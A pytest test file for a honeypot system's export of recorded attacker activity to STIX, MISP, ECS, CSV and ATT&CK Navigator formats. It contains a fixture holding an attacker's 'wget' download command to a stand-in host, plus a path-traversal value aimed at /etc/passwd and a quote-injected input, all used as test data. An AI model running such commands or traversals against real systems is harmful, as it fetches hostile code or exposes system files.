from __future__ import annotations

import csv
import io
import json
from typing import TYPE_CHECKING, Any
from uuid import UUID, uuid4

import pytest
from mitreattack.navlayers import Layer
from pymisp import MISPEvent
from stix2validator import ValidationOptions, validate_instance

from decnet.db.actors import Actors
from decnet.db.tags import TagWriter
from decnet.intake.store import Intake
from decnet.models.actor import attacker_uuid
from tests.events import NOON, a_command, a_tag

if TYPE_CHECKING:
    import httpx
    from sqlalchemy.engine import Connection

    from tests.web.conftest import Api

ATTACKER = UUID(bytes=attacker_uuid("198.51.100.17"))
FORMATS = ("stix", "misp", "ecs", "csv")


@pytest.fixture
def one_tag(empty_api: Api) -> Api:
    """The API of an installation with a single tag."""
    event, actors = a_command("wget http://203.0.113.7/x"), Actors()

    def work(connection: Connection) -> None:
        Intake(actors).store(connection, [event])
        TagWriter(actors).insert_tags(connection, [a_tag(event)], now=NOON)

    empty_api.place.database.write(work)
    return empty_api


def exported(client: httpx.Client, path: str, **options: object) -> str:
    answer = client.get(f"/ttp/export/{path}", params={name: str(value) for name, value in options.items()})
    assert answer.status_code == 200, answer.text
    return answer.text


def table(client: httpx.Client, path: str = "csv", **options: object) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(exported(client, path, **options), newline="")))


def assert_exports_are_accepted(client: httpx.Client) -> None:
    """By the programs of those who read them: MITRE's, OASIS's, MISP's."""
    tags = table(client)
    layer = json.loads(exported(client, "navigator"))
    assert len(Layer(layer).to_dict().get("techniques", [])) == len(layer["techniques"])
    bundle = json.loads(exported(client, "stix"))
    found = validate_instance(bundle, ValidationOptions(version="2.1"))
    assert [str(error) for error in found.errors] == []
    assert [one["type"] for one in bundle["objects"]].count("sighting") == len(tags)
    events = json.loads(exported(client, "misp"))["response"]
    for plain in events:
        MISPEvent().load(plain)
    assert len(events) == len({(tag["address"], tag["observed_at"][:10]) for tag in tags})
    assert len([json.loads(line) for line in exported(client, "ecs").splitlines()]) == len(tags)


@pytest.mark.timeout(60)
def test_exports_of_a_recorded_attack_are_accepted_elsewhere(viewer: httpx.Client) -> None:
    assert len(table(viewer)) > 100
    assert_exports_are_accepted(viewer)


@pytest.mark.timeout(60)
def test_exports_of_nothing_are_accepted_elsewhere(empty_api: Api) -> None:
    with empty_api.as_("viewer") as client:
        assert table(client) == []
        assert_exports_are_accepted(client)


@pytest.mark.timeout(60)
def test_exports_of_one_tag_are_accepted_elsewhere(one_tag: Api) -> None:
    with one_tag.as_("viewer") as client:
        assert len(table(client)) == 1
        assert_exports_are_accepted(client)


@pytest.mark.parametrize("form", [*FORMATS, "navigator"])
@pytest.mark.parametrize("scope", ["attacker", "identity", "campaign"])
def test_nobody_known_is_404_and_no_beginning_of_a_file(viewer: httpx.Client, form: str, scope: str) -> None:
    answer = viewer.get(f"/ttp/export/{form}/{scope}/{uuid4()}")
    assert answer.status_code == 404
    assert answer.headers["Content-Type"] == "application/problem+json"


def test_an_export_of_one_owner_has_no_others(viewer: httpx.Client) -> None:
    tags = table(viewer, f"csv/attacker/{ATTACKER}")
    assert {tag["address"] for tag in tags} == {"198.51.100.17"}
    assert table(viewer, f"csv/identity/{tags[0]['identity']}") == tags
    assert len(tags) < len(table(viewer))


def test_confidence_time_and_technique_narrow_an_export(viewer: httpx.Client) -> None:
    everything = table(viewer, min_confidence=0)
    assert {tag["technique"][:5] for tag in table(viewer, technique="T1105")} == {"T1105"}
    assert all(float(tag["confidence"]) >= 0.9 for tag in table(viewer, min_confidence=0.9))
    times = sorted(tag["observed_at"] for tag in everything)
    middle = json.loads(exported(viewer, "ecs", min_confidence=0).splitlines()[len(times) // 2])["@timestamp"]
    at = _micros(middle)
    before, after = table(viewer, min_confidence=0, until=at), table(viewer, min_confidence=0, since=at)
    assert before + after == everything
    assert before


def test_a_file_is_offered_under_a_name_that_says_what_it_is(viewer: httpx.Client) -> None:
    answer = viewer.get(f"/ttp/export/csv/attacker/{ATTACKER}")
    assert answer.headers["Content-Disposition"] == f'attachment; filename="decnet-csv-attacker-{ATTACKER}.csv"'
    assert answer.headers["Content-Type"].startswith("text/csv")


@pytest.mark.parametrize(
    "path",
    [
        "csv/attacker/..%2f..%2fetc%2fpasswd",
        "csv/attacker/1",
        "csv/session/00000000-0000-0000-0000-000000000000",
        "csv?technique=T1'",
        "csv?min_confidence=nan",
        "csv?since=-1",
        "csv?until=9007199254740992",
        "stix?tlp=purple",
        "navigator?release=oldest",
    ],
)
def test_what_makes_no_sense_is_400_or_404(viewer: httpx.Client, path: str) -> None:
    assert viewer.get(f"/ttp/export/{path}").status_code in {400, 404}


def test_every_technique_of_a_layer_leads_to_its_evidence(viewer: httpx.Client) -> None:
    layer = json.loads(exported(viewer, "navigator", min_confidence=0.6))
    scored = [entry for entry in layer["techniques"] if "score" in entry]
    assert scored
    for entry in scored:
        (link,) = entry["links"]
        tags = list(csv.DictReader(io.StringIO(viewer.get(link["url"]).text, newline="")))
        assert {tag["technique"] for tag in tags} >= {entry["techniqueID"]}


def test_a_layer_of_one_owner_leads_to_that_owners_evidence(viewer: httpx.Client) -> None:
    layer = json.loads(exported(viewer, f"navigator/attacker/{ATTACKER}"))
    links = [link["url"] for entry in layer["techniques"] for link in entry.get("links", [])]
    assert links
    assert all(f"/api/v1/ttp/tags/by-attacker/{ATTACKER}/T" in link for link in links)


def test_a_layer_of_other_days_is_empty(viewer: httpx.Client) -> None:
    assert json.loads(exported(viewer, "navigator", until=1))["techniques"] == []
    assert json.loads(exported(viewer, "navigator", since=2**52))["techniques"] == []
    everything = json.loads(exported(viewer, "navigator"))
    assert json.loads(exported(viewer, "navigator", since=0)) == everything


def test_a_migrated_layer_names_the_release_that_it_is_told_in(viewer: httpx.Client, api: Api) -> None:
    layer = json.loads(exported(viewer, "navigator", release="latest"))
    assert {"name": "migrated to", "value": api.place.newest.release} in layer["metadata"]


@pytest.mark.parametrize("form", [*FORMATS, "navigator"])
def test_exports_are_for_those_who_may_see_tags(api: Api, form: str) -> None:
    assert api.client.get(f"/ttp/export/{form}").status_code == 401
    with api.as_("sensor") as sensor:
        assert sensor.get(f"/ttp/export/{form}").status_code == 403


def _micros(stamp: str) -> int:
    from datetime import UTC, datetime

    moment = datetime.fromisoformat(stamp) - datetime(1970, 1, 1, tzinfo=UTC)
    return (moment.days * 86_400 + moment.seconds) * 1_000_000 + moment.microseconds


def objects_of(client: httpx.Client, **options: Any) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = json.loads(exported(client, "stix", **options))["objects"]
    return found


@pytest.mark.parametrize("marking", ["clear", "green", "amber", "red"])
def test_every_format_says_with_whom_it_may_be_shared(one_tag: Api, marking: str) -> None:
    with one_tag.as_("viewer") as client:
        assert [tag["tlp"] for tag in table(client, tlp=marking)] == [marking]
        assert json.loads(exported(client, "ecs", tlp=marking))["tags"] == [f"tlp:{marking}"]
        (event,) = json.loads(exported(client, "misp", tlp=marking))["response"]
        assert {"name": f"tlp:{marking}"} in [{"name": tag["name"]} for tag in event["Event"]["Tag"]]
        assert objects_of(client, tlp=marking)[0]["definition"]["tlp"] == marking.replace("clear", "white")
